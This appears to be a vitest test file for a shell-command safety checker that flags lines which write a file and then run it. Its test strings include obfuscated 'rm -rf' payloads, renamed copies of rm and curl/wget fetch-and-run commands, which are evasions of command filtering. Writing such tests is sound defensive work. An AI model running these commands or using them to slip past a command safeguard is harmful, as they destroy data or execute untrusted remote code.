import { describe, expect, it } from "vitest";
import { parseLine } from "./parse-line.ts";
import { WrittenFiles } from "./written-files.ts";

const reason = (line: string): string | undefined => parseLine(line).opaque;

describe("WrittenFiles", () => {
  it.each([
    "printf '\\162m -\\162f V' > x; bash ./x",
    "printf x > a; chmod +x a; ./a",
    "printf x | tee b; bash b",
    "printf x > /tmp/a; bash /tmp//a",
    "mv a b; bash b",
    "cp /bin/rm q; ./q -r -f V",
    "ln -s /bin/rm q; ./q -rf V",
    "cp /bin/rm /usr/local/bin/q; q -r -f V",
    "curl -sSLo x http://h; sudo bash x",
    "wget http://h/x && sh x",
    "(printf x) > y; ./y",
    "bash x & printf y > x",
    "printf x > Makefile; make",
    "{ sleep 1; bash x; } | printf y | tee ./x",
  ])("does not clear a line that writes a file and runs one: %s", (line) => {
    expect(reason(line)).toBe("it may run a file that it writes");
  });

  it.each([
    "cp a b; ls",
    "cp a b; make -C src",
    "mv a b && git status",
    "ls 2>/dev/null; ./run.sh 2>&1",
    "./run.sh > out",
    "./run.sh | tee out",
    "python3 train.py > log 2>&1; cat log",
    "cp a b; /usr/bin/sort b",
    "echo x > y; python3 --version",
    "curl http://h/x; ./run.sh",
  ])("clears a line that runs nothing it may have written: %s", (line) => {
    expect(reason(line)).toBeUndefined();
  });

  it("remembers what the lines before wrote", () => {
    const files = new WrittenFiles();
    expect(parseLine("cp /bin/rm q", files).opaque).toBeUndefined();
    expect(parseLine("./q -r -f V", files).opaque).toBe("it may run a file that it writes");
  });
});
